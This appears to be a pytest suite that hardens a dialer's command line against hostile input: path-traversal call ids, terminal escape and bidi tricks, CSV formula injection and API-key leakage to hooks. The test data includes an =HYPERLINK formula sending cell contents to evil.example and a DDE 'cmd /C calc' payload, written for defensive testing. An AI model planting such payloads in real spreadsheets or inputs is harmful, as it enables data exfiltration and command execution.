"""The command line against hostile ids, cells, names, hook environments and non-UTF-8 input."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import a1dialer
from a1dialer.core.call_export import export_csv
from a1dialer.core.calllog import CallLog
from a1dialer.core.settings import load_settings, save_settings
from a1dialer.pbx.simulator import PbxSimulator

# Each test runs the app or the command line in a subprocess: left out of the quick run.
pytestmark = pytest.mark.slow

KEY = "cli-hardening-key-93be"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
# What a hostile list row, link or PBX reply can hold: a screen clear, a forged line, a
# right-to-left override that makes "exe.pdf" read the other way round.
HOSTILE_NAME = "\x1b[2J\x1b[31mAna\u202efdp.exe\nFAKE 2099-01-01 placed\u2066 Silva\x07"


@pytest.fixture
def sim() -> Iterator[PbxSimulator]:
    with PbxSimulator(KEY, answer_delay=0.0, call_duration=0.0, recording_delay=0.0) as running:
        yield running


@pytest.fixture
def env(tmp_path: Path, sim: PbxSimulator) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("A1DIALER_", "QT_"))}
    env["A1DIALER_HOME"] = str(tmp_path / "profile")
    env["A1DIALER_DEFAULTS"] = str(tmp_path / "no-defaults.toml")
    env["A1DIALER_API_KEY"] = KEY
    done = run(
        env, "configure", "--server", sim.server_url, "--extension", "1007",
        "--caller-id-number", "12085550100", "--caller-id-name", "Acme",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return env


def run(
    env: dict[str, str], *args: str | bytes, cwd: Path | None = None
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "a1dialer", *args],
        env=env,
        cwd=cwd,
        capture_output=True,
        timeout=60,
        check=False,
    )


def wait_for_file(path: Path, timeout: float = 20) -> str:
    deadline = time.monotonic() + timeout
    while not (path.exists() and path.read_text(encoding="utf-8")):  # another process writes it
        assert time.monotonic() < deadline, f"{path.name} was never written"
        time.sleep(0.05)
    return path.read_text(encoding="utf-8")


# ------------------------------------------------------------------------- a call id is not a path


@pytest.mark.parametrize("call_id", ["../../x", "{tmp}/x", "..", "nul.wav"])
def test_a_path_given_as_call_id_is_refused_and_nothing_is_written(
    sim: PbxSimulator, env: dict[str, str], tmp_path: Path, call_id: str
) -> None:
    call_id = call_id.format(tmp=tmp_path)  # an absolute path, as "/tmp/x"
    sim.add_recording(call_id, seconds=1.0)  # even a PBX that serves it does not get it written
    cwd = tmp_path / "a" / "b"
    cwd.mkdir(parents=True)
    before = sorted(tmp_path.rglob("*"))
    # Run from elsewhere, yet with this checkout's package (not an installed one).
    env = {**env, "PYTHONPATH": str(Path(a1dialer.__file__).resolve().parents[1])}
    done = run(env, "recording", call_id, cwd=cwd)
    assert done.returncode == 2, done.stderr
    said = done.stderr.decode().splitlines()[0]
    assert said.startswith(f"a1dialer: '{call_id[:40]}")
    assert "' is not a call id: use the id shown for the call" in said
    assert b"Traceback" not in done.stderr
    assert not [request for request in sim.requests if request.endpoint == "call_recording"]
    assert sorted(tmp_path.rglob("*")) == before


def test_a_call_id_still_downloads(sim: PbxSimulator, env: dict[str, str], tmp_path: Path) -> None:
    sim.add_recording("1700000000.1234", seconds=1.0)  # a PBX's own id, not a UUID
    done = run(env, "recording", " 1700000000.1234 ", "-o", str(tmp_path))
    assert done.returncode == 0, done.stderr
    assert Path(done.stdout.decode().strip()) == tmp_path / "1700000000.1234.wav"


# ------------------------------------------------------------- names sent to the PBX and printed


def test_the_caller_id_name_is_plain_and_cut_at_a_word(
    sim: PbxSimulator, env: dict[str, str]
) -> None:
    long_name = HOSTILE_NAME + " and a very long company name that no phone display can show"
    done = run(env, "dial", "+1 208 555 1234", "--name", long_name)
    assert done.returncode == 0, done.stderr
    sent = sim.originates[-1]["src_cid_name"]
    assert sent == "[2J[31mAnafdp.exe FAKE 2099-01-01 placed Silva and a very long"
    assert len(sent) <= 64


def test_the_history_table_prints_no_escapes_or_forged_lines(
    sim: PbxSimulator, env: dict[str, str]
) -> None:
    placed = run(env, "dial", "+1 208 555 1234", "--name", HOSTILE_NAME)
    assert placed.returncode == 0, placed.stderr
    call_id = placed.stdout.decode().strip()
    with CallLog(Path(env["A1DIALER_HOME"]) / "calls.sqlite3") as call_log:
        call_log.set_outcome(call_id, "Call back\x1b]0;pwned\x07", "line one\r\nline two\u202e")
    done = run(env, "history")
    assert done.returncode == 0, done.stderr
    out = done.stdout.decode()
    assert out.count("\n") == 1, "one call is one line"
    assert not any(ch in out for ch in "\x1b\x07\r\u202e\u2066")
    assert "Anafdp.exe FAKE 2099-01-01 placed Silva" in out
    assert "“line one line two”" in out
    # --json keeps what was stored, as data.
    stored = json.loads(run(env, "history", "--json").stdout)
    assert stored["name"] == HOSTILE_NAME


# ------------------------------------------------------------------------------------- CSV export


def test_history_csv_is_the_export_and_safe_to_open_in_a_spreadsheet(
    sim: PbxSimulator, env: dict[str, str], tmp_path: Path
) -> None:
    first = run(env, "dial", "+1 208 555 1234", "--name", FORMULA_NAME)
    second = run(env, "dial", "1007", "--name", "@SUM(1+1)*cmd|' /C calc'!A0")
    assert first.returncode == second.returncode == 0, first.stderr + second.stderr
    with CallLog(Path(env["A1DIALER_HOME"]) / "calls.sqlite3") as call_log:
        call_log.set_outcome(first.stdout.decode().strip(), "+1 Interested", "-2 weeks\n=1+1")
        # An older version, another tool or a crafted list can leave any text in the log.
        call_log.add_pending(
            uuid="0b5e2a4e-7f0c-4a77-9d0b-3f1f3b1f2a10", number="12085550199",
            display_number="12085550199", name="\t=1+1", ringback="\r=2+2", auto_answer=False,
            record=False,
        )  # fmt: skip
        exported = tmp_path / "window-export.csv"
        export_csv(call_log, exported)

    done = run(env, "history", "--csv")
    assert done.returncode == 0, done.stderr
    assert done.stdout == exported.read_bytes(), "the same file as the window's Export..."
    assert done.stdout.startswith(b"\xef\xbb\xbfTime,Number,")
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8-sig"), newline="")))
    digits_only, extension, customer = rows
    assert customer["Name"] == "'" + FORMULA_NAME
    assert customer["Number"] == "'+1 208-555-1234"
    assert (customer["Outcome"], customer["Note"]) == ("'+1 Interested", "'-2 weeks\n=1+1")
    assert extension["Name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert extension["Number"] == "'1007"
    assert digits_only["Number"] == "'12085550199", "never 1.21E+10 in Excel"
    assert (digits_only["Name"], digits_only["Ringback"]) == ("'\t=1+1", "'\r=2+2")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)

    # The history's filters and --limit apply; --csv with --json is refused.
    limited = run(env, "history", "--csv", "--limit", "1")
    assert len(list(csv.reader(io.StringIO(limited.stdout.decode("utf-8-sig"))))) == 2
    searched = run(env, "history", "--csv", "--search", "SUM")
    assert searched.stdout.count(b"\r\n") == 2
    both = run(env, "history", "--csv", "--json")
    assert both.returncode == 2
    assert "--json or --csv" in json.loads(both.stdout)["message"]


# ----------------------------------------------------------------------- hooks never get the key

ENV_DUMPER = "import json, os, sys; open(sys.argv[1], 'w').write(json.dumps(dict(os.environ)))"


def test_hooks_and_the_browser_they_open_get_no_api_key(
    sim: PbxSimulator, env: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    command_env = tmp_path / "command-env.json"
    browser_env = tmp_path / "browser-env.json"
    browser = tmp_path / "browser.py"
    browser.write_text(ENV_DUMPER.replace("sys.argv[1]", repr(str(browser_env))), "utf-8")
    monkeypatch.setenv("A1DIALER_HOME", env["A1DIALER_HOME"])  # this profile's settings
    save_settings(
        load_settings().validated(
            hook_call_placed_command=f'"{sys.executable}" -c "{ENV_DUMPER}" "{command_env}"',
            hook_call_placed_url="https://crm.example.com/call?n={number}",
        )
    )
    env = {
        **env,
        "BROWSER": f"{sys.executable} {browser} %s",
        "CRM_TOKEN_COPY": KEY,  # a variable of the rep's that happens to hold the key
        "PBX_URL": f"{sim.server_url}/api?key={KEY}",
        "HARMLESS": "kept",
    }
    done = run(env, "dial", "+1 208 555 1234")
    assert done.returncode == 0, done.stderr
    for dumped in (command_env, browser_env):
        seen = json.loads(wait_for_file(dumped))
        assert KEY not in json.dumps(seen)
        assert "A1DIALER_API_KEY" not in seen
        assert "CRM_TOKEN_COPY" not in seen
        assert "PBX_URL" not in seen
        assert seen["HARMLESS"] == "kept"
        assert seen["A1DIALER_HOME"] == env["A1DIALER_HOME"]


# ---------------------------------------------------------------- files and arguments not in UTF-8


def log_text(env: dict[str, str]) -> str:
    return (Path(env["A1DIALER_HOME"]) / "logs" / "a1dialer.log").read_text(encoding="utf-8")


@pytest.mark.parametrize("file_name", ["settings", "defaults"])
def test_a_windows_1252_settings_file_is_read_with_a_warning(
    sim: PbxSimulator, env: dict[str, str], file_name: str
) -> None:
    settings_file = Path(env["A1DIALER_HOME"]) / "settings.toml"
    saved = settings_file.read_text(encoding="utf-8")
    assert 'caller_id_name = "Acme"\n' in saved
    if file_name == "settings":
        path = settings_file
        text = saved.replace('"Acme"', '"Café Müller"')
    else:
        settings_file.write_text(saved.replace('caller_id_name = "Acme"\n', ""), "utf-8")
        path = Path(env["A1DIALER_DEFAULTS"])
        text = '# Team defaults\ncaller_id_name = "Café Müller"\n'
    path.write_bytes(text.encode("cp1252"))  # as Notepad saves "ANSI"
    shown = run(env, "configure", "--show")
    assert shown.returncode == 0, shown.stderr
    assert "caller_id_name = 'Café Müller'" in shown.stdout.decode()
    assert f"{path} is not UTF-8" in log_text(env)
    assert "read it as Windows-1252" in log_text(env)
    placed = run(env, "dial", "+1 208 555 1234")
    assert placed.returncode == 0, placed.stderr
    assert sim.originates[-1]["dst_cid_name"] == "Café Müller"


def test_a_settings_file_in_no_known_encoding_is_refused_with_its_line(
    sim: PbxSimulator, env: dict[str, str]
) -> None:
    settings_file = Path(env["A1DIALER_HOME"]) / "settings.toml"
    settings_file.write_bytes(settings_file.read_bytes() + b'ringback = "\x81\x8d"\n')
    before = settings_file.read_bytes()
    for args in (["dial", "+1 208 555 1234"], ["configure", "--show"]):
        done = run(env, *args)
        assert done.returncode == 6
        stderr = done.stderr.decode()
        assert stderr.startswith(f"a1dialer: {settings_file} is not text A1 Dialer can read (line")
        assert "save it as UTF-8" in stderr
        assert "Traceback" not in stderr
    assert sim.originates == []
    assert settings_file.read_bytes() == before


def test_a_name_typed_in_a_latin_1_terminal_arrives_as_typed(
    sim: PbxSimulator, env: dict[str, str]
) -> None:
    done = run(env, "dial", "+1 208 555 1234", "--name", b"Jos\xe9 N\xfa\xf1ez")
    assert done.returncode == 0, done.stderr
    assert sim.originates[-1]["src_cid_name"] == "José Núñez"
    found = run(env, "history", "--json", "--search", b"Jos\xe9")
    assert json.loads(found.stdout)["name"] == "José Núñez"
    table = run(env, "history")
    assert "José Núñez" in table.stdout.decode()


def test_bytes_that_are_no_text_are_refused_in_one_sentence(
    sim: PbxSimulator, env: dict[str, str]
) -> None:
    done = run(env, "dial", "+1 208 555 1234", "--name", b"\x81\x8d")
    assert done.returncode == 2
    assert done.stderr.decode().count("\n") == 1
    assert "is not UTF-8 text" in done.stderr.decode()
    assert b"Traceback" not in done.stderr
    assert sim.originates == []


def test_a_file_name_that_is_not_utf_8_is_used_as_it_is(
    sim: PbxSimulator, env: dict[str, str], tmp_path: Path
) -> None:
    folder = os.fsencode(tmp_path)
    numbers = folder + b"/caf\xe9.txt"
    with open(numbers, "w", encoding="utf-8") as handle:
        handle.write("+1 208 555 0142\n")
    blocked = run(env, "dnc", "import", numbers)
    assert blocked.returncode == 0, blocked.stderr
    assert "+1 208-555-0142" in run(env, "dnc", "list").stdout.decode()

    sim.add_recording("0b5e2a4e-7f0c-4a77-9d0b-3f1f3b1f2a10", seconds=1.0)
    saved = run(
        env, "recording", "0b5e2a4e-7f0c-4a77-9d0b-3f1f3b1f2a10", "-o", folder + b"/r\xe9c.wav"
    )
    assert saved.returncode == 0, saved.stderr
    assert saved.stdout.strip() == folder + b"/r\xe9c.wav"
    assert os.path.exists(folder + b"/r\xe9c.wav")
